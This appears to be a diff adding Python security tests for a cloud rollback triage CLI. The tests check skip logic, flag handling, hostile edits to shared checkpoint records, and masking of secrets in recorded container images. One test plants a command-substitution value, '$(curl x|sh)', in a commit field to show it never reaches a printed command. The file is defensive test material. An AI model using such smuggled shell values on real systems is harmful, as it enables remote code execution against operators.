@@ -1,0 +1,175 @@
+"""Review of rollback triage (issue 28 item 5), attacked as a 3 a.m. responder and as someone who edited the shared
+checkpoint records: recommendations that would skip a needed step, printed commands that do not work or run
+something else, flags silently ignored, secrets recorded from the plan. Unit tests build the records; the CLI
+tests run against the moto server (tests/rollback/conftest.py)."""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+
+from tests.rollback.conftest import ENVIRONMENT, World, invoke
+from tests.rollback.test_triage import TASK_DEFINITION, definitions, plan_json, record_changes
+from toolkit.engine.pre_apply import applied_changes
+from toolkit.records.checkpoints import (
+    CHANGES_KEPT,
+    AppliedChanges,
+    ApplyRecord,
+    ChangedResource,
+    Checkpoint,
+    StateVersion,
+)
+from toolkit.rollback.triage import Undone, recommend, skip_reason
+
+LINEAGE = "6f1c2a7e-0000-4000-8000-000000000009"
+
+
+def applied(checkpoint_id: str, serial: int, changes: AppliedChanges | None, *,
+            commit: str = "0123456789abcdef0123456789abcdef01234567") -> Checkpoint:
+    checkpoint = Checkpoint(id=checkpoint_id, environment=ENVIRONMENT, created_at="2026-12-07T03:00:00Z",
+                            created_by="deployer@ci", git_commit=commit,
+                            state=StateVersion(backend="s3", lineage=LINEAGE, serial=serial))
+    checkpoint.apply = ApplyRecord(result="success", applied_by="deployer@ci", started_at="2026-12-07T03:00:01Z",
+                                   state_serial_after=serial + 1, changed_state=True, changes=changes)
+    return checkpoint
+
+
+def change(address: str, kind: str, action: str) -> dict[str, Any]:
+    return {"address": address, "mode": "managed", "type": kind, "name": address.rsplit(".", 1)[-1],
+            "change": {"actions": {"update": ["update"], "delete": ["delete"], "create": ["create"]}[action],
+                       "before": {}, "after": {}}}
+
+
+def steps(advice: Any) -> list[str]:
+    return [step for step, _ in advice.steps]
+
+
+# --- wrong recommendations ---------------------------------------------------------------------------------------
+
+def test_an_autoscaling_change_alone_is_undone_by_full() -> None:
+    """An apply that lowered the scalable target's max (aws_appautoscaling_target) changed no ECS resource: the
+    autoscaling step only suspends scaling, so nothing but `full` puts the old limits back."""
+    plan = {"resource_changes": [change("module.compute.aws_appautoscaling_target.app", "aws_appautoscaling_target",
+                                        "update")]}
+    undone = Undone(applied("20261207T030000Z-0001", 8, applied_changes(plan)))
+    undone.applies = [undone.checkpoint]
+    advice = recommend(ENVIRONMENT, undone)
+    assert "full" in steps(advice), advice
+    assert any("--step full" in command for command in advice.commands), advice.commands
+
+
+def test_a_truncated_change_list_skips_nothing() -> None:
+    """Only the first CHANGES_KEPT addresses are kept: a parameter group beyond them is not "untouched"."""
+    plan = {"resource_changes": [change(f"aws_ssm_parameter.p[{index}]", "aws_ssm_parameter", "update")
+                                 for index in range(CHANGES_KEPT)]
+            + [change("module.database.aws_db_parameter_group.main", "aws_db_parameter_group", "update"),
+               change("module.cache.aws_elasticache_replication_group.main", "aws_elasticache_replication_group",
+                      "delete"),
+               change("module.database.aws_db_instance.main", "aws_db_instance", "delete")]}
+    changes = applied_changes(plan)
+    assert sum(changes.counts.values()) == CHANGES_KEPT + 3 and len(changes.resources) == CHANGES_KEPT
+    undone = Undone(applied("20261207T030000Z-0001", 8, changes))
+    undone.applies = [undone.checkpoint]
+    assert skip_reason("db-parameter-group", undone) is None
+    assert skip_reason("cache-disable", undone) is None
+    assert skip_reason("db-restore", undone) is None
+
+
+def test_counts_that_name_more_than_the_resources_skip_nothing() -> None:
+    """An edited record (or a truncated one) whose counts and resources disagree is not trusted to skip."""
+    changes = AppliedChanges(counts={"update": 1, "delete": 1},
+                             resources=[ChangedResource("module.compute.aws_ecs_service.app", "aws_ecs_service",
+                                                        "update")])
+    undone = Undone(applied("20261207T030000Z-0001", 8, changes))
+    undone.applies = [undone.checkpoint]
+    assert not undone.known
+    assert skip_reason("db-restore", undone) is None
+
+
+def test_full_after_several_applies_is_printed_with_the_consent_it_needs(world: World, cli) -> None:
+    """Rolling back to an older checkpoint undoes the later applies too: `full` refuses without --also-undo for
+    each, so the command triage prints must carry them (they are listed right above it)."""
+    replica = change("module.database.aws_db_instance.replica[0]", "aws_db_instance", "update")
+    record_changes(world, plan_json(replica))
+    later = applied(world.store.next_id(), 8, applied_changes(plan_json()),
+                    commit="fedcba9876543210fedcba9876543210fedcba98")
+    later.state.lineage = later.apply.state_lineage = "6f1c2a7e-0000-4000-8000-000000000001"  # type: ignore[union-attr]
+    world.store.save(later)
+    result = invoke(cli, "rollback", ENVIRONMENT, "--to", world.checkpoint_id, "--format", "json")
+    assert result.exit_code == 0, result.output
+    document = json.loads(result.output)
+    assert [item["checkpoint"] for item in document["undone"]] == [world.checkpoint_id, later.id]
+    full = [command for command in document["commands"] if "--step full" in command]
+    assert full and all(f"--also-undo {later.id}" in command for command in full), document["commands"]
+    # As printed (dry run), the step plans instead of refusing.
+    dry = invoke(cli, *full[0].split()[1:], "--endpoint-url", world.endpoint)
+    assert "would also undo" not in dry.output, dry.output
+
+
+# --- flags -------------------------------------------------------------------------------------------------------
+
+def test_include_of_a_step_outside_the_tier_is_refused(world: World, cli, proxy) -> None:
+    """`--tier immediate --include db-restore` would run no restore: said, not silently ignored."""
+    result = invoke(cli, "rollback", ENVIRONMENT, "--tier", "immediate", "--include", "db-restore")
+    assert result.exit_code == 1, result.output
+    assert "--include db-restore: not a step of tier immediate (ecs-task-definition, autoscaling)" in result.output
+    assert proxy.calls == []
+    long = invoke(cli, "rollback", ENVIRONMENT, "--tier", "long", "--include", "cache-disable")
+    assert long.exit_code == 1, long.output
+    assert "not a step of tier long" in long.output
+
+
+# --- hostile records ---------------------------------------------------------------------------------------------
+
+def test_an_edited_commit_never_becomes_a_printed_command(world: World, cli) -> None:
+    """The commit comes from a record anyone with the bucket can edit: `git revert $(…)` pasted at 3 a.m. runs it."""
+    checkpoint = world.store.load(world.checkpoint_id)
+    checkpoint.git_commit = "$(curl x|sh)"
+    world.store.save(checkpoint)
+    result = invoke(cli, "rollback", ENVIRONMENT, "--tier", "immediate")
+    assert result.exit_code == 0, result.output
+    assert "$(curl" not in result.output.split("Still to do:")[1], result.output
+    assert "not a commit id" in result.output
+
+
+def test_hostile_records_neither_crash_triage_nor_the_listing(world: World, cli) -> None:
+    path = world.store.where(world.checkpoint_id)
+    record = json.loads(world.store.records.get(f"{world.checkpoint_id}.json"))
+    record["rollback_of"] = world.checkpoint_id   # pointing at itself
+    record["apply"]["changes"] = {"counts": {"update": 1}, "resources": [
+        {"address": "a" * 200_000, "type": "aws_db_instance\x1b[2J", "action": "delete"}],
+        "images": [{"address": TASK_DEFINITION, "container": "app", "before": "x" * 100_000, "after": None}]}
+    world.store.records.put(f"{world.checkpoint_id}.json", json.dumps(record).encode())
+    for args in (("rollback", ENVIRONMENT), ("rollback", ENVIRONMENT, "--format", "json"),
+                 ("rollback", ENVIRONMENT, "--to", world.checkpoint_id), ("checkpoints", ENVIRONMENT)):
+        result = invoke(cli, *args)
+        assert result.exception is None or isinstance(result.exception, SystemExit), (args, result.exception)
+        assert "\x1b" not in result.output
+        # A field is shown cut, never 200 kB on the responder's screen (json carries it whole, for machines).
+        assert "json" in args or max(len(line) for line in result.output.splitlines()) < 2_000, (args, path)
+    wrong = dict(record, apply=dict(record["apply"], changes={"counts": {"update": "1"}, "resources": "db"}))
+    world.store.records.put(f"{world.checkpoint_id}.json", json.dumps(wrong).encode())
+    result = invoke(cli, "rollback", ENVIRONMENT, "--to", world.checkpoint_id)
+    assert result.exit_code != 0 and "unreadable checkpoint" in result.output and "apply.changes" in result.output
+
+
+# --- secrets -----------------------------------------------------------------------------------------------------
+
+def test_a_sensitive_container_definition_records_no_image() -> None:
+    """A container definition built from a sensitive value is shown in clear by `terraform show -json` (marked in
+    before_sensitive/after_sensitive): its images are recorded as sensitive, never their text."""
+    plan = plan_json(image_after="registry.example/app:token-s3cr3t")
+    body = plan["resource_changes"][0]["change"]
+    body["after_sensitive"] = {"container_definitions": True}
+    body["before_sensitive"] = {"container_definitions": True}
+    changes = applied_changes(plan)
+    assert "s3cr3t" not in json.dumps([vars(item) for item in changes.images])
+    assert [(item.container, item.before, item.after) for item in changes.images] == [
+        ("app", "(sensitive)", "(sensitive)")]
+
+
+def test_a_secret_shaped_image_is_masked() -> None:
+    plan = plan_json(image_after="https://deploy:hunter2-long-password@registry.example/app:2")
+    recorded = applied_changes(plan).images
+    assert recorded and "hunter2" not in json.dumps([vars(item) for item in recorded])
+    assert definitions("x")  # the shared helper stays in use
